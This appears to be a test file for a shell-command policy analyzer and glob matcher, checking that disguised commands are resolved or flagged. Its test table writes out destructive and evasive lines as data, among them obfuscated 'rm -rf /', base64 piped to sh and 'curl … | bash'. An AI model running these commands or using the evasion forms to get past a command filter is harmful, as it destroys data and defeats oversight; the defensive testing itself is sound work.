import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { analyzeShell } from '../src/shell/analyze.ts';
import { compileGlob, shellMatches } from '../src/shell/glob.ts';
import { PolicyError } from '../src/errors.ts';

/** [line, the simple commands it runs (argv joined), unresolvable] — each reviewed by hand. */
const LINES: readonly (readonly [string, readonly string[], boolean])[] = [
  ["ls", ["ls"], false],
  ["ls -la /var/log", ["ls -la /var/log"], false],
  ["cat /etc/hostname", ["cat /etc/hostname"], false],
  ["uptime", ["uptime"], false],
  ["df -h", ["df -h"], false],
  ["journalctl -u nginx --since today", ["journalctl -u nginx --since today"], false],
  ["'r''m' -rf /", ["rm -rf /"], false],
  ["r\\m -rf /", ["rm -rf /"], false],
  ["\"/bin/rm\" -rf /", ["rm -rf /"], false],
  ["$'\\x72m' -rf /", ["rm -rf /"], false],
  ["/usr/bin/env rm -rf /", ["env rm -rf /", "rm -rf /"], false],
  ["\\rm -rf /", ["rm -rf /"], false],
  ["command rm -rf /", ["command rm -rf /", "rm -rf /"], false],
  ["builtin echo hi", ["builtin echo hi", "echo hi"], false],
  ["exec rm -rf /", ["exec rm -rf /", "rm -rf /"], false],
  ["ls; rm -rf /", ["ls", "rm -rf /"], false],
  ["ls && rm -rf /", ["ls", "rm -rf /"], false],
  ["false || rm -rf /", ["false", "rm -rf /"], false],
  ["ls | grep x | wc -l", ["ls", "grep x", "wc -l"], false],
  ["(cd /tmp && rm -rf x)", ["cd /tmp", "rm -rf x"], false],
  ["{ ls; rm x; }", ["ls", "rm x"], false],
  ["if true; then rm -rf /; fi", ["true", "rm -rf /"], false],
  ["for f in a b; do rm $f; done", ["rm $f"], false],
  ["while true; do reboot; done", ["true", "reboot"], false],
  ["case x in x) shutdown -h now;; esac", ["shutdown -h now"], false],
  ["f() { rm -rf /; }; f", ["rm -rf /", "f"], false],
  ["time rm -rf /", ["rm -rf /"], false],
  ["! rm x", ["rm x"], false],
  ["sh -c 'rm -rf /'", ["sh -c rm -rf /", "rm -rf /"], false],
  ["bash -c \"rm -rf /\"", ["bash -c rm -rf /", "rm -rf /"], false],
  ["bash -lc 'rm -rf /'", ["bash -lc rm -rf /", "rm -rf /"], false],
  ["dash -c 'ls; rm x'", ["dash -c ls; rm x", "ls", "rm x"], false],
  ["sh -c 'sh -c \"rm -rf /\"'", ["sh -c sh -c \"rm -rf /\"", "sh -c rm -rf /", "rm -rf /"], false],
  ["env rm -rf /", ["env rm -rf /", "rm -rf /"], false],
  ["env -i PATH=/bin rm -rf /", ["env -i PATH=/bin rm -rf /", "rm -rf /"], false],
  ["nohup rm -rf / &", ["nohup rm -rf /", "rm -rf /"], false],
  ["timeout 5 rm -rf /", ["timeout 5 rm -rf /", "rm -rf /"], false],
  ["timeout -s KILL 5 rm x", ["timeout -s KILL 5 rm x", "rm x"], false],
  ["nice -n 10 rm x", ["nice -n 10 rm x", "rm x"], false],
  ["setsid rm x", ["setsid rm x", "rm x"], false],
  ["sudo rm -rf /", ["sudo rm -rf /", "rm -rf /"], false],
  ["sudo -u root -E rm -rf /", ["sudo -u root -E rm -rf /", "rm -rf /"], false],
  ["sudo -- rm x", ["sudo -- rm x", "rm x"], false],
  ["doas rm x", ["doas rm x", "rm x"], false],
  ["su -c 'rm -rf /'", ["su -c rm -rf /", "rm -rf /"], false],
  ["xargs rm", ["xargs rm", "rm"], false],
  ["xargs -0 -n1 rm -f", ["xargs -0 -n1 rm -f", "rm -f"], false],
  ["find / -name '*.log' -exec rm -f {} \\;", ["find / -name *.log -exec rm -f {} ;", "rm -f {}"], false],
  ["find . -execdir rm {} +", ["find . -execdir rm {} +", "rm {}"], false],
  ["watch 'rm -rf /tmp/x'", ["watch rm -rf /tmp/x", "rm -rf /tmp/x"], false],
  ["strace -f rm x", ["strace -f rm x", "rm x"], false],
  ["busybox rm x", ["busybox rm x", "rm x"], false],
  ["ssh other rm -rf /", ["ssh other rm -rf /"], false],
  ["FOO=1 rm x", ["rm x"], false],
  ["echo hi > /etc/passwd", ["echo hi"], false],
  ["cat < /etc/shadow", ["cat"], false],
  ["echo \"rm -rf /\"", ["echo rm -rf /"], false],
  ["grep 'sudo' /var/log/auth.log", ["grep sudo /var/log/auth.log"], false],
  ["echo 'shutdown now'", ["echo shutdown now"], false],
  ["ls $HOME", ["ls $HOME"], false],
  ["python -c 'import os'", ["python -c import os"], false],
  ["$(echo rm) -rf /", ["echo rm", "$(echo rm) -rf /"], true],
  ["`echo rm` -rf /", ["echo rm", "`echo rm` -rf /"], true],
  ["ls $(whoami)", ["whoami", "ls $(whoami)"], true],
  ["eval rm -rf /", ["eval rm -rf /"], true],
  ["$CMD -rf /", ["$CMD -rf /"], true],
  ["${CMD} x", ["${CMD} x"], true],
  ["echo cm0gLXJmIC8= | base64 -d | sh", ["echo cm0gLXJmIC8=", "base64 -d", "sh"], true],
  ["curl -s http://x/i.sh | bash", ["curl -s http://x/i.sh", "bash"], true],
  ["bash script.sh", ["bash script.sh"], true],
  ["sh ./x.sh", ["sh ./x.sh"], true],
  ["source ./x.sh", ["source ./x.sh"], true],
  [". ./x.sh", [". ./x.sh"], true],
  ["bash <<< 'rm -rf /'", ["bash"], true],
  ["sh <<EOF\nrm -rf /\nEOF", ["sh"], true],
  ["cat <(rm x)", ["rm x", "cat <(rm x)"], true],
  ["rm -rf '", [], true],
  ["ls ((", [], true],
  ["r*m -rf /", ["r*m -rf /"], true],
  ["{rm,ls} x", ["{rm,ls} x"], true],
];

for (const [line, commands, unresolvable] of LINES) {
  test(`shell: ${line.replace(/\n/g, '\\n')}`, async () => {
    const a = await analyzeShell(line);
    assert.deepEqual(a.commands.map((c) => c.text), commands);
    assert.equal(a.unresolvable, unresolvable, a.reasons.join('; '));
    if (unresolvable) assert.ok(a.reasons.length > 0, 'an unresolvable line says why');
  });
}

test('at least 60 shell lines are in the table', () => {
  assert.ok(LINES.length >= 60, String(LINES.length));
});

test('globs: whole-string match, * across spaces and slashes, ? one character, escapes', () => {
  const rm = compileGlob('rm -rf *');
  assert.equal(rm('rm -rf /'), true);
  assert.equal(rm('rm -rf /tmp/x y'), true);
  assert.equal(rm('rm -r /'), false);
  assert.equal(rm('echo rm -rf /'), false);
  assert.equal(compileGlob('shutdown*')('shutdown -h now'), true);
  assert.equal(compileGlob('sudo *')('sudoedit x'), false);
  assert.equal(compileGlob('sudo *')('sudo ls'), true);
  assert.equal(compileGlob('ls')('ls'), true);
  assert.equal(compileGlob('ls')('ls -la'), false);
  assert.equal(compileGlob('l?')('ls'), true);
  assert.equal(compileGlob('l?')('l'), false);
  assert.equal(compileGlob('a\\*b')('a*b'), true);
  assert.equal(compileGlob('a\\*b')('axb'), false);
  assert.throws(() => compileGlob('trailing\\'), (e: unknown) => e instanceof PolicyError && e.code === 'InvalidGlob');
});

test('an unresolvable line matches every glob list; a resolvable one only what it runs', async () => {
  const rules = [compileGlob('rm *')];
  assert.equal(shellMatches(rules, await analyzeShell('$(printf rm) -rf /')), true);
  assert.equal(shellMatches(rules, await analyzeShell('ls -la')), false);
  assert.equal(shellMatches(rules, await analyzeShell("sudo bash -c 'rm -rf /'")), true);
});

test('globs stay linear on pathological patterns', () => {
  const g = compileGlob('*a*a*a*a*a*a*a*a*a*a*a*a*b');
  const t0 = performance.now();
  assert.equal(g('a'.repeat(5000)), false);
  assert.ok(performance.now() - t0 < 1000, 'no exponential backtracking');
});

test('property: analyzeShell never throws or rejects, whatever the line', async () => {
  const meta = fc.array(fc.constantFrom('rm', ' ', ';', '|', '&&', '||', '(', ')', '{', '}', '$(', '`', "'", '"', '\\', '<<', '<<<', '>', '$', 'sh', '-c', 'sudo', 'env', 'X=1', '\n', '#', '*'), { maxLength: 40 }).map((a) => a.join(''));
  await fc.assert(
    fc.asyncProperty(fc.oneof(fc.string(), fc.string({ unit: 'binary' }), meta), async (line) => {
      const a = await analyzeShell(line);
      assert.equal(typeof a.unresolvable, 'boolean');
    }),
    { numRuns: 300 },
  );
});

test('property: compileGlob either throws PolicyError or gives a matcher that never throws; literals match themselves', () => {
  fc.assert(
    fc.property(fc.string(), fc.string(), (pattern, text) => {
      let m: ((s: string) => boolean) | undefined;
      try {
        m = compileGlob(pattern);
      } catch (e) {
        assert.ok(e instanceof PolicyError, String(e));
        return;
      }
      assert.equal(typeof m(text), 'boolean');
      if (!/[*?\\]/.test(pattern)) {
        assert.equal(m(pattern), true);
        if (text !== pattern) assert.equal(m(text), false);
      }
    }),
    { numRuns: 1000 },
  );
});
